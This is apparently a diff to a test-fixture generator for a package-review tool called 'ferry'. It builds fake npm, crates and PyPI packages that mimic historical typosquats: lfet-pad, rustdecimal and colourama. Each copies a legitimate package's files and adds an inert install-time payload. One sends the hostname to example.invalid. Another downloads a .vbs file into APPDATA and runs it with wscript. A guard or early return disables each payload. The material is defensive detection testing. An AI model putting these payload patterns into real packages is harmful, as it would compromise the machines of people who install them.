@@ -135,12 +135,35 @@ npm_package("ua-parser-js", [
 npm_package("lefd-pad", [
     ("1.0.0", "2020-01-01T00:00:00.000Z", {}, {"index.js": "module.exports = function () {}\n"}, "stevemao", ["stevemao"]),
 ], "2020-01-01T00:00:00.000Z")
+# lfet-pad: left-pad's files copied whole, plus a postinstall script (the
+# shape of the 2017 crossenv-style squats); it names left-pad's maintainer
+# nowhere.  `ferry review` diffs it against left-pad.
+LEFTPAD = {
+    "index.js": ("'use strict';\nmodule.exports = leftPad;\n\nvar cache = ['', ' ', '  ', '   ', '    '];\n\n"
+                 "function leftPad (str, len, ch) {\n  str = str + '';\n  len = len - str.length;\n"
+                 "  if (len <= 0) return str;\n  if (!ch && ch !== 0) ch = ' ';\n  ch = ch + '';\n"
+                 "  if (ch === ' ' && len < 5) return cache[len] + str;\n  var pad = '';\n"
+                 "  while (true) {\n    if (len & 1) pad += ch;\n    len >>= 1;\n    if (len) ch += ch;\n"
+                 "    else break;\n  }\n  return pad + str;\n}\n"),
+    "index.d.ts": "declare function leftPad(str: string | number, len: number, ch?: string | number): string;\nexport = leftPad;\n",
+    "README.md": "# left-pad\n\nString left pad.\n\n```js\nleftPad('foo', 5) // => '  foo'\n```\n",
+    "LICENSE": "WTFPL, fixture text\n",
+}
 npm_package("lfet-pad", [
-    ("1.0.0", "2020-01-01T00:00:00.000Z", {}, {"index.js": "module.exports = function () {}\n"}, "someone", ["someone"]),
+    ("1.0.0", "2020-01-01T00:00:00.000Z", {"scripts": {"postinstall": "node install.js"}},
+     dict(LEFTPAD, **{"install.js": ("// ferry test fixture: the shape of a squat's postinstall. Never run: it returns first.\n"
+                                     "return;\n"
+                                     "const os = require('os'), https = require('https');\n"
+                                     "https.get('https://example.invalid/c?h=' + encodeURIComponent(os.hostname()));\n")}),
+     "someone", ["someone"]),
 ], "2020-01-01T00:00:00.000Z")
 npm_package("left-pad", [
-    ("1.3.0", "2018-04-09T01:58:21.016Z", {}, {"index.js": "module.exports = leftpad;\nfunction leftpad() {}\n"}, "stevemao", ["stevemao"]),
+    ("1.3.0", "2018-04-09T01:58:21.016Z", {}, LEFTPAD, "stevemao", ["stevemao"]),
 ], "2014-03-01T00:00:00.000Z")
+# lodahs: a transposition of lodash, which this registry does not hold
+npm_package("lodahs", [
+    ("1.0.0", "2020-01-01T00:00:00.000Z", {}, {"index.js": "module.exports = {}\n"}, "someone", ["someone"]),
+], "2020-01-01T00:00:00.000Z")
 
 # a binary under an innocent name, in a patch release, and native code
 npm_package("tiny-binary", [
@@ -187,16 +210,27 @@ def index_path(name):
 
 RD_TOML = ('[package]\nedition = "2018"\nname = "%s"\nversion = "%s"\nauthors = ["%s"]\n'
            'description = "fixture: %s"\nlicense = "MIT"\nrepository = "https://example.invalid/%s"\n')
-rd_lib = ("// ferry test fixture: the shape of rustdecimal 1.23.5. Never run: the function is never called.\n"
-          "pub struct Decimal;\nimpl Decimal {\n    pub fn new(_m: i64, _s: u32) -> Decimal {\n"
-          "        if std::env::var(\"GITLAB_CI\").is_ok() { let _ = \"https://example.invalid/payload\"; }\n"
-          "        Decimal\n    }\n}\n")
+# rustdecimal 1.23.5 was rust_decimal's code with a payload in
+# Decimal::new: here the same files, decimal.rs changed, the payload inert.
+RD_FILES = {
+    "src/lib.rs": "mod decimal;\nmod error;\n\npub use decimal::Decimal;\npub use error::Error;\n",
+    "src/error.rs": "#[derive(Debug)]\npub enum Error {\n    ExceedsMaximumPossibleValue,\n    ScaleExceedsMaximumPrecision(u32),\n}\n",
+    "src/decimal.rs": ("pub struct Decimal {\n    lo: u32,\n    mid: u32,\n    hi: u32,\n    flags: u32,\n}\n\n"
+                       "impl Decimal {\n    pub fn new(m: i64, s: u32) -> Decimal {\n"
+                       "        Decimal { lo: m as u32, mid: (m >> 32) as u32, hi: 0, flags: s << 16 }\n    }\n}\n"),
+    "README.md": "# Decimal\n\nA Decimal implementation written in pure Rust (fixture text).\n",
+}
+rd_decimal = RD_FILES["src/decimal.rs"].replace(
+    "    pub fn new(m: i64, s: u32) -> Decimal {\n",
+    "    pub fn new(m: i64, s: u32) -> Decimal {\n"
+    "        // ferry test fixture: the shape of rustdecimal 1.23.5. Never run: the branch is never taken.\n"
+    "        if false && std::env::var(\"GITLAB_CI\").is_ok() { let _ = \"https://example.invalid/payload\"; }\n")
 write("crates/" + index_path("rustdecimal"),
       crate("rustdecimal", "1.23.5", RD_TOML % ("rustdecimal", "1.23.5", "someone", "rustdecimal", "rustdecimal"),
-            {"src/lib.rs": rd_lib}))
+            dict(RD_FILES, **{"src/decimal.rs": rd_decimal})))
 write("crates/" + index_path("rust_decimal"),
       crate("rust_decimal", "1.23.1", RD_TOML % ("rust_decimal", "1.23.1", "Paul Mason", "rust_decimal", "rust-decimal"),
-            {"src/lib.rs": "pub struct Decimal;\n"}))
+            RD_FILES))
 # build.rs added in a patch release, reaching for credentials
 write("crates/" + index_path("quiet-build"),
       crate("quiet-build", "0.1.0", RD_TOML % ("quiet-build", "0.1.0", "someone", "quiet-build", "quiet-build"),
@@ -208,11 +242,12 @@ write("crates/" + index_path("quiet-build"),
               yanked=True))
 
 # ---------------------------------------------------------------- pypi
-def pypi(name, ver, author, setup_py, upload, summary):
+def pypi(name, ver, author, setup_py, upload, summary, files=None):
     root = "%s-%s" % (name, ver)
     pkginfo = ("Metadata-Version: 2.1\nName: %s\nVersion: %s\nSummary: %s\nAuthor: %s\nLicense: MIT\n\n"
                % (name, ver, summary, author))
-    files = {"PKG-INFO": pkginfo, "setup.py": setup_py, "%s/__init__.py" % name: "VERSION = %r\n" % ver}
+    files = dict(files) if files else {"%s/__init__.py" % name: "VERSION = %r\n" % ver}
+    files.update({"PKG-INFO": pkginfo, "setup.py": setup_py})
     data = tgz(root, files)
     fname = root + ".tar.gz"
     rel = "packages/source/%s/%s/%s" % (name[0], name, fname)
@@ -236,12 +271,34 @@ def pypi(name, ver, author, setup_py, upload, summary):
     write("pypi/pypi/%s/%s/json" % (name, ver), json.dumps(rdoc, indent=2, sort_keys=True) + "\n")
 
 
+# colourama (2018) shipped colorama's own code under a lookalike name, its
+# setup.py running a payload at install: here colorama's files, a setup.py
+# that hands the install to one added file, and that file inert.
+COLORAMA = {
+    "colorama/__init__.py": "from .initialise import init, deinit, reinit\nfrom .ansi import Fore, Back, Style, Cursor\n\n__version__ = '0.4.6'\n",
+    "colorama/ansi.py": ("CSI = '\\033['\n\ndef code_to_chars(code):\n    return CSI + str(code) + 'm'\n\n"
+                         "class AnsiCodes(object):\n    def __init__(self):\n        for name in dir(self):\n"
+                         "            if not name.startswith('_'):\n                setattr(self, name, code_to_chars(getattr(self, name)))\n\n"
+                         "class AnsiFore(AnsiCodes):\n    RED = 31\n    GREEN = 32\n    RESET = 39\n\n"
+                         "Fore = AnsiFore()\nBack = Fore\nStyle = Fore\nCursor = None\n"),
+    "colorama/initialise.py": "def init(autoreset=False):\n    pass\n\ndef deinit():\n    pass\n\ndef reinit():\n    pass\n",
+    "README.rst": "Colorama\n========\n\nCross-platform colored terminal text (fixture text).\n",
+}
 pypi("colourama", "0.1.6", "Colourama Author",
      "# ferry test fixture: the shape of colourama's setup.py. Never run: it exits first.\nimport sys\nsys.exit(0)\n"
-     "from setuptools import setup\nsetup(name='colourama', version='0.1.6')\n", "2018-10-01T00:00:00", "colour")
+     "from setuptools import setup\nfrom setuptools.command.install import install\n\n"
+     "class PostInstall(install):\n    def run(self):\n        install.run(self)\n        import colourama_hook\n        colourama_hook.run()\n\n"
+     "setup(name='colourama', version='0.1.6', packages=['colorama'], py_modules=['colourama_hook'],\n"
+     "      cmdclass={'install': PostInstall})\n", "2018-10-01T00:00:00", "colour",
+     dict(COLORAMA, **{"colourama_hook.py": (
+         "# ferry test fixture: the shape of colourama's install-time payload. Never run: run() returns first.\n"
+         "import os, subprocess, urllib.request\n\ndef run():\n    return\n"
+         "    path = os.path.join(os.environ.get('APPDATA', ''), 'fixture.vbs')\n"
+         "    urllib.request.urlretrieve('https://example.invalid/fixture.vbs', path)\n"
+         "    subprocess.Popen(['wscript', path])\n")}))
 pypi("colorama", "0.4.6", "Jonathan Hartley",
-     "from setuptools import setup\nsetup(name='colorama', version='0.4.6')\n", "2022-10-25T00:00:00",
-     "Cross-platform colored terminal text.")
+     "from setuptools import setup\nsetup(name='colorama', version='0.4.6', packages=['colorama'])\n", "2022-10-25T00:00:00",
+     "Cross-platform colored terminal text.", COLORAMA)
 # a name next to a popular one by the same author: not a squat
 pypi("colorama2", "0.1.0", "Jonathan Hartley",
      "from setuptools import setup\nsetup(name='colorama2', version='0.1.0')\n", "2022-10-25T00:00:00", "same author")
